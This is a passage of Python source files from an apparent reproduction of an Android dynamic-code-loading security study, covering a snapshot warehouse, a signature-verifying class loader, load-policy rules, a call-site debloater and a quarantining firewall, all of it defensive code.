                            "serialization": SERIALIZATION_VERSION,
                        }
                    )
                    self._header_checked = True
                    return
                self._seal_torn_tail(size)
                self._load(size)
                self._end = size
        if not self._header_checked:
            raise WarehouseError("{}: no warehouse header found".format(self.path))

    # -- open-time scanning ------------------------------------------------------

    def _seal_torn_tail(self, size: int) -> None:
        """Terminate a crash-torn final line (exclusive lock held)."""
        self._handle.seek(size - 1)
        if self._handle.read(1) != b"\n":
            self._handle.write(b"\n")
            self._handle.flush()

    def _load(self, size: int) -> None:
        """Build the key->offset index: trailing-index fast path, else scan."""
        self._handle.seek(0)
        data = self._handle.read(size)
        cut = data.rfind(b"\n")
        if cut < 0:
            raise WarehouseError("{}: unreadable warehouse".format(self.path))
        last_start = data.rfind(b"\n", 0, cut) + 1
        last_line = data[last_start : cut + 1]
        entry = self._parse(last_line)
        if entry and entry.get("kind") == "index" and isinstance(entry.get("entries"), dict):
            # Fast path: the writer sealed after its last append, so the
            # trailing index is complete.  The header still gets checked.
            first = self._parse(data[: data.find(b"\n") + 1])
            if first:
                self._dispatch_header(first)
            self._index = {str(k): int(v) for k, v in entry["entries"].items()}
            self.fast_opened = True
            # The trailing index already covers everything: read-only opens
            # must not grow the file with another identical index on close.
            self._sealed = True
            return
        offset = 0
        for raw in data.splitlines(keepends=True):
            entry = self._parse(raw)
            if entry is None:
                self.corrupt_lines += 1
            else:
                kind = entry.get("kind")
                if kind == "header":
                    self._dispatch_header(entry)
                elif (
                    kind == "snapshot"
                    and "package" in entry
                    and "version_code" in entry
                ):
                    key = _key(entry["package"], entry["version_code"])
                    # first write wins: duplicates are later, identical noise
                    self._index.setdefault(key, offset)
                elif kind == "index":
                    pass  # stale interior index from an earlier seal
                else:
                    self.corrupt_lines += 1
            offset += len(raw)

    def _parse(self, raw: bytes) -> Optional[Dict[str, object]]:
        try:
            entry = json.loads(raw)
        except json.JSONDecodeError:
            return None
        return entry if isinstance(entry, dict) else None

    def _dispatch_header(self, entry: Dict[str, object]) -> None:
        if entry.get("kind") != "header":
            raise WarehouseError("{}: first line is not a header".format(self.path))
        if entry.get("version") != WAREHOUSE_VERSION:
            raise WarehouseError(
                "{}: unsupported warehouse version {}".format(
                    self.path, entry.get("version")
                )
            )
        if entry.get("serialization") != SERIALIZATION_VERSION:
            raise WarehouseError(
                "{}: snapshots use report serialization {}, this build "
                "reads {}".format(
                    self.path, entry.get("serialization"), SERIALIZATION_VERSION
                )
            )
        self._header_checked = True

    # -- appends -----------------------------------------------------------------

    def _write_line(self, entry: Dict[str, object]) -> int:
        """Write one line at EOF; returns the offset it landed at."""
        self._handle.seek(0, os.SEEK_END)
        offset = self._handle.tell()
        self._handle.write(json.dumps(entry, sort_keys=True).encode("utf-8") + b"\n")
        self._handle.flush()
        self._end = self._handle.tell()
        return offset

    def _fold_tail(self) -> None:
        """Index snapshots a sibling appended past our horizon (lock held)."""
        self._handle.seek(0, os.SEEK_END)
        size = self._handle.tell()
        if size <= self._end:
            return
        self._handle.seek(self._end)
        data = self._handle.read(size - self._end)
        torn = not data.endswith(b"\n")
        if torn:
            # Exclusive lock held: a missing final newline is crash debris
            # from a dead sibling.  Seal it so whatever we write next
            # cannot concatenate onto it.
            self._handle.write(b"\n")
            self._handle.flush()
        offset = self._end
        for raw in data.splitlines(keepends=True):
            if raw.endswith(b"\n"):
                entry = self._parse(raw)
                if (
                    entry
                    and entry.get("kind") == "snapshot"
                    and "package" in entry
                    and "version_code" in entry
                ):
                    key = _key(entry["package"], entry["version_code"])
                    self._index.setdefault(key, offset)
            offset += len(raw)
        self._end = offset + (1 if torn else 0)

    def append(self, analysis: Union[AppAnalysis, Dict[str, object]]) -> bool:
        """Store one snapshot; returns False if its key already exists."""
        if isinstance(analysis, AppAnalysis):
            analysis = analysis.to_dict()
        package = analysis["package"]
        version_code = int(analysis.get("metadata", {}).get("version_code", 1))
        key = _key(package, version_code)
        with self._mutex:
            if key in self._index:
                return False
            with _file_lock(self._handle, exclusive=True):
                # Catch up on sibling appends first: _write_line advances
                # our horizon past them, and one may even hold this key
                # (first write wins across processes too).
                self._fold_tail()
                if key in self._index:
                    return False
                offset = self._write_line(
                    {
                        "kind": "snapshot",
                        "package": package,
                        "version_code": version_code,
                        "analysis": analysis,
                    }
                )
            self._index[key] = offset
            self._sealed = False
        return True

    def seal(self) -> None:
        """Append the in-file index so the next open can skip the scan."""
        with self._mutex:
            if self._sealed or self._handle.closed:
                return
            with _file_lock(self._handle, exclusive=True):
                self._fold_tail()
                self._write_line({"kind": "index", "entries": dict(self._index)})
            self._sealed = True

    # -- reads -------------------------------------------------------------------

    def get(self, package: str, version_code: int) -> Dict[str, object]:
        """The serialized analysis dict stored for one snapshot key."""
        key = _key(package, version_code)
        with self._mutex:
            if key not in self._index:
                raise KeyError(key)
            offset = self._index[key]
            with _file_lock(self._handle, exclusive=False):
                self._handle.seek(offset)
                raw = self._handle.readline()
        entry = self._parse(raw)
        if not entry or entry.get("kind") != "snapshot":
            raise WarehouseError(
                "{}: offset {} for {} does not hold a snapshot".format(
                    self.path, offset, key
                )
            )
        return entry["analysis"]

    def get_analysis(self, package: str, version_code: int) -> AppAnalysis:
        return AppAnalysis.from_dict(self.get(package, version_code))

    def __contains__(self, key: Tuple[str, int]) -> bool:
        package, version_code = key
        with self._mutex:
            return _key(package, version_code) in self._index

    def __len__(self) -> int:
        with self._mutex:
            return len(self._index)

    def packages(self) -> List[str]:
        with self._mutex:
            return sorted({key.rsplit("@", 1)[0] for key in self._index})

    def versions(self, package: str) -> List[int]:
        """Stored version codes for one package, ascending."""
        prefix = package + "@"
        with self._mutex:
            return sorted(
                int(key.rsplit("@", 1)[1])
                for key in self._index
                if key.startswith(prefix)
            )

    # -- lifecycle ---------------------------------------------------------------

    def close(self) -> None:
        self.seal()
        with self._mutex:
            if not self._handle.closed:
                self._handle.close()

    def __enter__(self) -> "SnapshotWarehouse":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
