"""Longitudinal evolution: versioned lineages, snapshot warehouse, drift diffing.

The single-snapshot pipeline answers "what does this APK do?"; this
package answers "what *changed*?" -- the question the paper's
review-then-swap threat model actually turns on.  It provides:

- :mod:`repro.evolution.lineage` -- deterministic multi-version app
  lineages with seeded per-version mutations;
- :mod:`repro.evolution.warehouse` -- an append-only, flock-safe store
  of per-version analyses keyed by ``(package, version_code)``;
- :mod:`repro.evolution.differ` -- structured, severity-bucketed diffs
  of two snapshots of the same app;
- :mod:`repro.evolution.timelines` -- fleet-level evolution statistics;
- :mod:`repro.evolution.runner` -- the ``repro evolve run`` coordinator,
  which walks versions oldest-first over the farm's executors with a
  shared verdict store so unchanged payloads are analyzed exactly once.
"""

from repro.evolution.differ import (
    DriftFinding,
    DriftSeverity,
    SnapshotDiff,
    classify_pair,
    diff_analyses,
    diff_digest,
)
from repro.evolution.lineage import (
    AppLineage,
    AppVersion,
    LineageSpec,
    build_version_record,
    plan_lineages,
)
from repro.evolution.runner import EvolveConfig, EvolveResult, run_evolution
from repro.evolution.timelines import (
    FleetTimeline,
    PackageTimeline,
    build_timeline,
    load_warehouse_timeline,
)
from repro.evolution.warehouse import (
    WAREHOUSE_VERSION,
    SnapshotWarehouse,
    WarehouseError,
    compact_warehouse,
)
from repro.evolution.worker import (
    LineageShardJob,
    LineageShardResult,
    run_lineage_shard,
)

__all__ = [
    "AppLineage",
    "AppVersion",
    "DriftFinding",
    "DriftSeverity",
    "EvolveConfig",
    "EvolveResult",
    "FleetTimeline",
    "LineageShardJob",
    "LineageShardResult",
    "LineageSpec",
    "PackageTimeline",
    "SnapshotDiff",
    "SnapshotWarehouse",
    "WAREHOUSE_VERSION",
    "WarehouseError",
    "build_timeline",
    "build_version_record",
    "classify_pair",
    "compact_warehouse",
    "diff_analyses",
    "diff_digest",
    "load_warehouse_timeline",
    "plan_lineages",
    "run_evolution",
    "run_lineage_shard",
]
