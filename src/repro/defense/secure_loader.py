"""A Grab'n-Run-style secure class loader (developer-side defense).

The Table IX vulnerability exists because ``DexClassLoader`` executes
whatever bytes sit at ``dexPath`` -- the OS performs no integrity check, and
developers rarely add one.  :class:`SecureDexClassLoader` is the drop-in
fix: the developer ships a :class:`PayloadManifest` pinning, per logical
payload name, the SHA-256 digest (and signing key) of every version they
ever released; at load time the loader re-reads the file, verifies digest
and signature, and only then constructs the real loader.

The signature scheme is HMAC-like (keyed SHA-256) rather than real
asymmetric crypto -- the property that matters for the reproduction is that
an attacker who can *write the file* cannot also *forge the signature*,
which keyed hashing models exactly.
"""

from __future__ import annotations

import hashlib
import hmac
from dataclasses import dataclass, field
from typing import Dict, List

from repro.runtime.objects import VMException, VMObject
from repro.runtime.vm import DalvikVM


class CodeVerificationError(Exception):
    """The payload failed digest or signature verification."""


def payload_digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def sign_payload(data: bytes, signing_key: bytes) -> str:
    """The developer's release-time signature over the payload bytes."""
    return hmac.new(signing_key, data, hashlib.sha256).hexdigest()


@dataclass
class PayloadManifest:
    """The developer's pinned expectations for dynamic payloads."""

    signing_key: bytes
    #: logical payload name -> set of allowed digests (released versions).
    allowed_digests: Dict[str, List[str]] = field(default_factory=dict)
    #: logical payload name -> signature per digest.
    signatures: Dict[str, str] = field(default_factory=dict)

    def pin(self, name: str, data: bytes) -> None:
        """Record one released payload version."""
        digest = payload_digest(data)
        self.allowed_digests.setdefault(name, []).append(digest)
        self.signatures[digest] = sign_payload(data, self.signing_key)

    def verify(self, name: str, data: bytes) -> None:
        """Raise :class:`CodeVerificationError` unless ``data`` is pinned."""
        digest = payload_digest(data)
        if digest not in self.allowed_digests.get(name, []):
            raise CodeVerificationError(
                "payload {!r}: digest {} not pinned".format(name, digest[:16])
            )
        expected = self.signatures.get(digest)
        actual = sign_payload(data, self.signing_key)
        if expected is None or not hmac.compare_digest(expected, actual):
            raise CodeVerificationError(
                "payload {!r}: signature mismatch".format(name)
            )


class SecureDexClassLoader:
    """Verify-then-load: the safe replacement for raw ``DexClassLoader``.

    Usage mirrors the unsafe idiom::

        loader = SecureDexClassLoader(manifest, vm)
        cls = loader.load_class("plugin", dex_path, odex_dir, "com.x.Entry")

    On verification failure nothing is loaded and the VM raises a
    ``SecurityException`` into the app, matching Grab'n Run's contract.
    """

    def __init__(self, manifest: PayloadManifest, vm: DalvikVM) -> None:
        self.manifest = manifest
        self.vm = vm
        self.verified_loads: List[str] = []
        self.rejected_loads: List[str] = []

    def load_class(
        self,
        payload_name: str,
        dex_path: str,
        odex_dir: str,
        class_name: str,
    ) -> VMObject:
        """Verify the file at ``dex_path`` and load ``class_name`` from it."""
        try:
            data = self.vm.device.vfs.read(dex_path)
        except FileNotFoundError:
            raise VMException("java.io.FileNotFoundException", dex_path)
        try:
            self.manifest.verify(payload_name, data)
        except CodeVerificationError as exc:
            self.rejected_loads.append(dex_path)
            # Surface the refusal on the instrumentation bus: a prevented
            # load leaves no DexLoadEvent, so without this the defense's
            # saves are invisible to measurement.
            from repro.runtime.instrumentation import LoadRejectedEvent

            ctx = self.vm.context
            self.vm.instrumentation.emit_load_rejected(
                LoadRejectedEvent(
                    path=dex_path,
                    payload_name=payload_name,
                    reason=str(exc),
                    app_package=ctx.package if ctx else "",
                    timestamp_ms=self.vm.device.now_ms(),
                )
            )
            raise VMException("java.lang.SecurityException", str(exc))
        self.verified_loads.append(dex_path)

        from repro.android.bytecode import MethodRef

        loader = VMObject("dalvik.system.DexClassLoader")
        self.vm.invoke(
            MethodRef("dalvik.system.DexClassLoader", "<init>", 5),
            [loader, dex_path, odex_dir, None, None],
        )
        return self.vm.invoke(
            MethodRef("java.lang.ClassLoader", "loadClass", 2), [loader, class_name]
        )
