"""OS/market-side DCL policy enforcement.

The paper observes that "the existing Android ecosystem lacks a mechanism
to enforce Google's policy" because the OS cannot tell where loaded code
came from.  With DyDroid's instrumentation the missing signal exists; this
module turns it into an enforcement layer: a set of declarative rules
evaluated against each DCL event (plus the download tracker and the
manifest), producing per-load verdicts that a hardened OS could act on.

Built-in rules cover the paper's three security findings:

- ``remote-code``    -- the Google Play content-policy violation (Table V);
- ``foreign-writable`` -- Table IX's code-injection surface (external
  storage pre-4.4, other apps' internal storage);
- ``world-writable-file`` -- the loaded file itself is writable by others.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Callable, List, Optional, Sequence, Union

from repro.android.manifest import AndroidManifest
from repro.dynamic.download_tracker import DownloadTracker
from repro.runtime.instrumentation import DexLoadEvent, NativeLoadEvent
from repro.runtime.vfs import VirtualFilesystem, internal_owner, is_external

LoadEvent = Union[DexLoadEvent, NativeLoadEvent]


class PolicyVerdict(enum.Enum):
    ALLOW = "allow"
    DENY = "deny"
    #: block the load but preserve the payload bytes for offline analysis
    #: (the firewall's :class:`~repro.defense.firewall.QuarantineStore`).
    QUARANTINE = "quarantine"


@dataclass(frozen=True)
class PolicyDecision:
    """One rule's opinion on one loaded path."""

    rule: str
    verdict: PolicyVerdict
    path: str
    reason: str = ""


@dataclass
class PolicyContext:
    """Everything rules may consult."""

    app_package: str
    manifest: AndroidManifest
    tracker: Optional[DownloadTracker] = None
    vfs: Optional[VirtualFilesystem] = None


RuleFn = Callable[[PolicyContext, str], Optional[str]]


@dataclass(frozen=True)
class PolicyRule:
    """A named predicate: returns a denial reason for a path, or None.

    ``action`` is the verdict a match produces; the default DENY keeps the
    original two-argument construction (and all advisory uses) unchanged,
    while firewall rules may escalate to QUARANTINE.
    """

    name: str
    check: RuleFn
    action: PolicyVerdict = PolicyVerdict.DENY

    def evaluate(self, context: PolicyContext, path: str) -> PolicyDecision:
        reason = self.check(context, path)
        if reason is None:
            return PolicyDecision(self.name, PolicyVerdict.ALLOW, path)
        return PolicyDecision(self.name, self.action, path, reason)


# -- built-in rules ------------------------------------------------------------


def _rule_remote_code(context: PolicyContext, path: str) -> Optional[str]:
    if context.tracker is None:
        return None
    if context.tracker.is_remote(path):
        sources = ", ".join(context.tracker.remote_sources(path))
        return "code fetched remotely from {} (content-policy violation)".format(sources)
    return None


def _rule_foreign_writable(context: PolicyContext, path: str) -> Optional[str]:
    if is_external(path) and context.manifest.supports_pre_kitkat():
        return "loads from world-writable external storage on pre-4.4"
    owner = internal_owner(path)
    if owner is not None and owner != context.app_package:
        return "loads from another app's private storage ({})".format(owner)
    return None


def _rule_world_writable_file(context: PolicyContext, path: str) -> Optional[str]:
    if context.vfs is None:
        return None
    record = context.vfs.stat(path)
    if record is not None and record.world_writable and internal_owner(path) == context.app_package:
        return "payload file is world-writable"
    return None


def _rule_plugin_component_hijack(context: PolicyContext, path: str) -> Optional[str]:
    """A foreign sub-app that redefines a host component steals its intents.

    Plugin/hot-update packs are APK containers with their own manifest
    package; one carrying a class named after a host-declared component
    gets every intent addressed to the real component.  The sub-app test
    keeps packers out: a packer's decrypted payload carries the host's own
    components under the host's own package and must load normally.
    """
    if context.vfs is None:
        return None
    try:
        data = context.vfs.read(path)
    except FileNotFoundError:
        return None
    from repro.ecosystems.hazards import container_package, payload_class_names

    sub_app = container_package(data)
    if sub_app is None or sub_app == context.app_package:
        return None
    hijacked = payload_class_names(data) & context.manifest.component_names()
    if hijacked:
        return "plugin pack {} redefines manifest component(s): {}".format(
            sub_app, ", ".join(sorted(hijacked))
        )
    return None


def _rule_dropper_chain(context: PolicyContext, path: str) -> Optional[str]:
    """Multi-hop delivery: the payload's remote ancestry spans >= 2 origins.

    The download tracker's staged-loader chaining makes each hop inherit its
    dropper's provenance, so a depth-N chain shows N upstream URL specs on
    the final payload.  One origin is ordinary remote code (the remote-code
    rule's business); two or more means code fetched code.
    """
    if context.tracker is None:
        return None
    origins = set(context.tracker.remote_sources(path))
    if len(origins) >= 2:
        return "payload delivered through a staged dropper chain ({} remote origins)".format(
            len(origins)
        )
    return None


def ecosystem_rules() -> List[PolicyRule]:
    """Enforcement for the modern-DCL hazard classes (scenario pack).

    Ordered before :func:`default_policy` by the firewall presets so the
    more specific verdicts win first-match: component hijack is an outright
    DENY, dropper chains QUARANTINE (the chain tail is the evidence).
    """
    return [
        PolicyRule("plugin-component-hijack", _rule_plugin_component_hijack),
        PolicyRule(
            "dropper-chain", _rule_dropper_chain, PolicyVerdict.QUARANTINE
        ),
    ]


def default_policy() -> List[PolicyRule]:
    """The rules a DyDroid-informed OS would ship."""
    return [
        PolicyRule("remote-code", _rule_remote_code),
        PolicyRule("foreign-writable", _rule_foreign_writable),
        PolicyRule("world-writable-file", _rule_world_writable_file),
    ]


class PolicyEngine:
    """Evaluates the rule set over a session's DCL events."""

    def __init__(self, rules: Optional[Sequence[PolicyRule]] = None) -> None:
        self.rules = list(rules) if rules is not None else default_policy()
        self.decisions: List[PolicyDecision] = []

    def evaluate_event(self, context: PolicyContext, event: LoadEvent) -> List[PolicyDecision]:
        paths = event.dex_paths if isinstance(event, DexLoadEvent) else (event.lib_path,)
        results: List[PolicyDecision] = []
        for path in paths:
            for rule in self.rules:
                decision = rule.evaluate(context, path)
                results.append(decision)
        self.decisions.extend(results)
        return results

    def evaluate_session(
        self,
        context: PolicyContext,
        dex_events: Sequence[DexLoadEvent] = (),
        native_events: Sequence[NativeLoadEvent] = (),
    ) -> List[PolicyDecision]:
        for event in list(dex_events) + list(native_events):
            self.evaluate_event(context, event)
        return self.denials()

    def decide(self, context: PolicyContext, path: str) -> PolicyDecision:
        """First-match verdict for one path (the firewall's inline query).

        Unlike :meth:`evaluate_event` -- which records *every* rule's
        opinion for post-hoc reporting -- enforcement wants exactly one
        actionable answer per load, so rule order is significant and the
        first matching rule wins.  Falls through to ALLOW.
        """
        for rule in self.rules:
            decision = rule.evaluate(context, path)
            if decision.verdict is not PolicyVerdict.ALLOW:
                self.decisions.append(decision)
                return decision
        decision = PolicyDecision("default", PolicyVerdict.ALLOW, path)
        self.decisions.append(decision)
        return decision

    def denials(self) -> List[PolicyDecision]:
        return [d for d in self.decisions if d.verdict is not PolicyVerdict.ALLOW]

    def would_block(self, path: str) -> bool:
        return any(
            d.path == path and d.verdict is not PolicyVerdict.ALLOW
            for d in self.decisions
        )
