"""DCL debloating: shelve loader call sites no entry point can reach.

The firewall (:mod:`repro.defense.firewall`) mediates loads that *happen*;
debloating removes the ones that never legitimately can.  A large share of
DCL-capable apps carry loader code that is statically unreachable -- dead
plugin paths, abandoned A/B experiments, copy-pasted SDK leftovers (the
paper's prefilter-vs-runtime gap).  Every such site is pure attack surface:
a confused-deputy bug or a partial code-injection primitive only needs *one*
reachable path to an existing ``DexClassLoader`` constructor.

``debloat_apk`` statically rewrites an :class:`Apk`:

1. decompile and compute the call-graph closure from the manifest entry
   points (:func:`repro.static_analysis.callgraph.reachable_methods`);
2. find unreachable methods whose bodies construct a DEX class loader or
   call the JNI native-load surface;
3. *shelve* each one -- the original body is renamed to ``<name>$shelved``
   (kept loadable, so reflection-probing apps still resolve the class) and
   a guard stub that only logs takes its place under the original name;
4. repack, refusing integrity-protected apps exactly like the
   permission rewriter (:class:`~repro.static_analysis.rewriter.RepackagingError`).

The rewrite is conservative by construction: reachable loader sites are
never touched, so a debloated benign app behaves identically under the VM.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from repro.android.apk import ANTI_REPACKAGING_ENTRY, Apk
from repro.android.builders import MethodBuilder
from repro.android.dex import DexFile, DexMethod
from repro.static_analysis.callgraph import reachable_methods
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.prefilter import (
    NATIVE_LOAD_METHODS,
    _is_loader_ctor,
)
from repro.static_analysis.rewriter import RepackagingError

#: suffix appended to a shelved method's name; the guard stub takes the
#: original name so every existing call site (there are none reachable,
#: but dispatch tables do not know that) resolves to the no-op.
SHELVED_SUFFIX = "$shelved"

_NATIVE_LOAD_KEYS = frozenset(NATIVE_LOAD_METHODS)


@dataclass(frozen=True)
class ShelvedSite:
    """One debloated call site: where it was and why it qualified."""

    class_name: str
    method_name: str
    #: "dex" (loader constructor), "native" (JNI load), or "both".
    mechanism: str
    dex_entry: str

    def to_dict(self) -> Dict[str, str]:
        return {
            "class": self.class_name,
            "method": self.method_name,
            "mechanism": self.mechanism,
            "dex_entry": self.dex_entry,
        }


@dataclass
class RewriteManifest:
    """What a debloating pass did to one APK."""

    package: str
    shelved: List[ShelvedSite] = field(default_factory=list)
    #: loader-bearing methods left alone because an entry point reaches them.
    reachable_loader_sites: int = 0

    @property
    def rewritten(self) -> bool:
        return bool(self.shelved)

    def to_dict(self) -> Dict[str, object]:
        return {
            "package": self.package,
            "rewritten": self.rewritten,
            "shelved": [site.to_dict() for site in self.shelved],
            "reachable_loader_sites": self.reachable_loader_sites,
        }


def _loader_mechanism(method: DexMethod) -> str:
    """'' when the method has no DCL surface, else dex/native/both."""
    has_dex = False
    has_native = False
    for ref in method.invoked_refs():
        if _is_loader_ctor(ref):
            has_dex = True
        elif (ref.class_name, ref.name) in _NATIVE_LOAD_KEYS:
            has_native = True
    if has_dex and has_native:
        return "both"
    if has_dex:
        return "dex"
    if has_native:
        return "native"
    return ""


def _guard_stub(method: DexMethod) -> DexMethod:
    """A body-compatible stand-in that logs the suppressed load and returns."""
    builder = MethodBuilder(
        method.name,
        method.class_name,
        arity=method.arity,
        is_static=method.is_static,
        is_public=method.is_public,
    )
    tag = builder.new_string("repro.defense")
    message = builder.new_string(
        "debloated: dynamic load site {}.{} shelved".format(
            method.class_name, method.name
        )
    )
    builder.call_void("android.util.Log", "d", tag, message)
    builder.ret_void()
    return builder.build()


def debloat_apk(apk: Apk) -> Tuple[Apk, RewriteManifest]:
    """Shelve every statically unreachable DCL call site of ``apk``.

    Returns ``(rewritten_apk, manifest)``; when nothing qualifies the
    returned APK is the original object, untouched.  Raises
    :class:`RepackagingError` for integrity-protected apps (the repacked
    archive could not match the embedded record) and propagates
    :class:`~repro.static_analysis.decompiler.DecompilationError` for
    anti-decompilation samples -- both populations stay firewall-only.
    """
    program = Decompiler(strict=True).decompile(apk)
    manifest = RewriteManifest(package=program.manifest.package)
    reachable = reachable_methods(program)

    # Map each parsed DexFile back to its archive entry so only touched
    # entries are reserialized (dex_entries() and decompile() share order).
    entry_names = [path for path, _ in apk.dex_entries()]
    touched: Dict[str, DexFile] = {}

    for entry_name, dex in zip(entry_names, program.dex_files):
        for cls in dex.classes:
            shelved_here: List[DexMethod] = []
            for method in cls.methods:
                mechanism = _loader_mechanism(method)
                if not mechanism or method.name.endswith(SHELVED_SUFFIX):
                    continue
                if (cls.name, method.name) in reachable:
                    manifest.reachable_loader_sites += 1
                    continue
                manifest.shelved.append(
                    ShelvedSite(cls.name, method.name, mechanism, entry_name)
                )
                stub = _guard_stub(method)
                method.name = method.name + SHELVED_SUFFIX
                shelved_here.append(stub)
                touched[entry_name] = dex
            cls.methods.extend(shelved_here)

    if not manifest.rewritten:
        return apk, manifest
    if apk.is_anti_repackaging:
        raise RepackagingError(
            "integrity-protected package {} cannot be debloated".format(
                manifest.package
            )
        )

    rewritten = apk.clone()
    for entry_name, dex in touched.items():
        rewritten.entries[entry_name] = dex.to_bytes()
    # A real repack re-signs; drop any stale integrity record (none when the
    # guard above holds, but clone defensively like the permission rewriter).
    rewritten.entries.pop(ANTI_REPACKAGING_ENTRY, None)
    return rewritten, manifest


def debloat_corpus(records) -> List[Tuple[object, RewriteManifest]]:
    """Debloat every record of a corpus, skipping undecompilable apps.

    Returns ``(record, manifest)`` pairs where ``record.apk`` has been
    replaced by its rewritten form; apps that cannot be rewritten
    (anti-decompilation, anti-repackaging) are returned unchanged with an
    empty manifest so callers can count them.
    """
    from dataclasses import replace

    from repro.static_analysis.decompiler import DecompilationError

    out = []
    for record in records:
        try:
            rewritten, manifest = debloat_apk(record.apk)
        except (DecompilationError, RepackagingError):
            out.append((record, RewriteManifest(package=record.package)))
            continue
        if manifest.rewritten:
            record = replace(record, apk=rewritten)
        out.append((record, manifest))
    return out
