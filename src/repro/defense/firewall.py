"""The enforced DCL firewall: inline policy decisions at the mediation points.

:mod:`repro.defense.policy` scores DCL events *after* a session; this module
promotes the same rules to *inline enforcement*.  The VM's complete-mediation
hook points (:mod:`repro.runtime.classloader` for bytecode,
:mod:`repro.runtime.jni` for native code) consult an attached
:class:`DclFirewall` between logging a load event and actually defining any
code; a DENY or QUARANTINE verdict raises
:class:`~repro.runtime.objects.FirewallDeniedException` -- an app-catchable
``java.lang.SecurityException`` -- so the hostile payload never executes
while the host app continues degraded.

What enforcement keys on, per the paper's security findings:

- **provenance** -- download-tracker reachability (remotely fetched code is
  the Google Play content-policy violation, Table V);
- **vulnerability class** -- foreign-writable / world-writable load paths
  (the Table IX code-injection surface);
- **payload digest** -- a live lookup in the cross-shard
  :class:`~repro.store.verdicts.VerdictStore`: payloads DroidNative already
  convicted anywhere in the fleet are quarantined on sight;
- **per-tenant policy** -- a named :class:`PolicyDocument` selects the rule
  set and whether verdicts are enforced or merely observed.

QUARANTINE preserves the payload bytes (content-addressed, replayable via
:func:`replay_quarantined`) before blocking, so analysts keep the evidence
the block would otherwise destroy.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Dict, List, Optional, Union

from repro.defense.policy import (
    PolicyContext,
    PolicyEngine,
    PolicyRule,
    PolicyVerdict,
    default_policy,
    ecosystem_rules,
)
from repro.runtime.instrumentation import DexLoadEvent, NativeLoadEvent
from repro.runtime.objects import FirewallDeniedException
from repro.runtime.vfs import is_external

__all__ = [
    "DclFirewall",
    "FirewallDecision",
    "PolicyDocument",
    "QuarantineStore",
    "get_policy",
    "known_malware_rule",
    "policy_names",
    "replay_quarantined",
]


# -- verdict-store-backed rule -------------------------------------------------


def known_malware_rule(store) -> PolicyRule:
    """Quarantine payloads whose digest the fleet already convicted.

    ``store`` is a :class:`~repro.store.verdicts.VerdictStore` (duck-typed:
    anything with ``get_detection(digest)``) or ``None``.  A *computed
    benign* record -- ``(True, None)`` -- deliberately does not match, so
    packers' decrypted-but-clean payloads load normally; only a positive
    DroidNative detection quarantines.
    """

    def check(context: PolicyContext, path: str) -> Optional[str]:
        if store is None or context.vfs is None:
            return None
        try:
            data = context.vfs.read(path)
        except FileNotFoundError:
            return None
        digest = hashlib.sha256(data).hexdigest()
        found, detection = store.get_detection(digest)
        if found and detection is not None:
            return "payload digest {} is known malware ({})".format(
                digest[:16], detection.family
            )
        return None

    return PolicyRule("known-malware", check, PolicyVerdict.QUARANTINE)


def _rule_external_any(context: PolicyContext, path: str) -> Optional[str]:
    """Strict-policy extra: no code from shared external storage, any SDK."""
    if is_external(path):
        return "loads from shared external storage (strict policy)"
    return None


# -- per-tenant policy documents -----------------------------------------------


@dataclass(frozen=True)
class PolicyDocument:
    """A named, per-tenant enforcement policy.

    ``build_rules(verdict_store)`` materializes the rule list -- a factory
    rather than a static list because the known-malware rule closes over
    the live verdict store of whichever pipeline attaches the firewall.
    ``enforce=False`` turns the firewall into a monitor: every decision is
    still recorded (and quarantine still preserves bytes) but nothing is
    raised into the app.
    """

    name: str
    description: str
    build_rules: Callable[[Optional[object]], List[PolicyRule]]
    enforce: bool = True


def _default_rules(store: Optional[object]) -> List[PolicyRule]:
    # ecosystem rules sit before default_policy() on purpose: decide() is
    # first-match, and a staged chain tail must read "dropper-chain"
    # (QUARANTINE), not collapse into the generic remote-code DENY.
    return [known_malware_rule(store)] + ecosystem_rules() + default_policy()


def _strict_rules(store: Optional[object]) -> List[PolicyRule]:
    return [known_malware_rule(store)] + ecosystem_rules() + default_policy() + [
        PolicyRule("external-storage", _rule_external_any)
    ]


POLICIES: Dict[str, PolicyDocument] = {
    "default": PolicyDocument(
        "default",
        "quarantine fleet-convicted payloads; deny remote / foreign-writable / "
        "world-writable loads",
        _default_rules,
    ),
    "strict": PolicyDocument(
        "strict",
        "the default rules plus a blanket ban on external-storage code",
        _strict_rules,
    ),
    "observe": PolicyDocument(
        "observe",
        "record every verdict without enforcing any (monitor mode)",
        _default_rules,
        enforce=False,
    ),
}


def policy_names() -> List[str]:
    return sorted(POLICIES)


def get_policy(name: str) -> PolicyDocument:
    try:
        return POLICIES[name]
    except KeyError:
        raise ValueError(
            "unknown firewall policy {!r} (known: {})".format(
                name, ", ".join(policy_names())
            )
        )


# -- decisions -----------------------------------------------------------------


@dataclass(frozen=True)
class FirewallDecision:
    """One inline verdict, as carried on reports through JSON round-trips."""

    path: str
    verdict: str                      # PolicyVerdict value: allow|deny|quarantine
    rule: str
    reason: str
    policy: str
    kind: str                         # "dex" | "native"

    @property
    def blocked(self) -> bool:
        return self.verdict != PolicyVerdict.ALLOW.value

    def to_dict(self) -> Dict[str, str]:
        return {
            "path": self.path,
            "verdict": self.verdict,
            "rule": self.rule,
            "reason": self.reason,
            "policy": self.policy,
            "kind": self.kind,
        }

    @classmethod
    def from_dict(cls, data: Dict[str, str]) -> "FirewallDecision":
        return cls(
            path=data["path"],
            verdict=data["verdict"],
            rule=data["rule"],
            reason=data.get("reason", ""),
            policy=data.get("policy", ""),
            kind=data.get("kind", "dex"),
        )


# -- quarantine ----------------------------------------------------------------


class QuarantineStore:
    """Content-addressed payload jail: ``<digest>.bin`` + ``<digest>.json``.

    Writes are idempotent by construction (the digest names the content),
    so concurrent farm shards quarantining the same SDK payload never
    conflict; the ``.bin`` lands via a per-writer temp file + atomic rename.
    """

    def __init__(self, directory: Union[str, Path]) -> None:
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)

    def put(self, data: bytes, decision: FirewallDecision) -> str:
        digest = hashlib.sha256(data).hexdigest()
        bin_path = self.directory / (digest + ".bin")
        if not bin_path.exists():
            tmp = bin_path.with_suffix(".bin.tmp{}".format(id(self)))
            tmp.write_bytes(data)
            tmp.replace(bin_path)
        meta_path = self.directory / (digest + ".json")
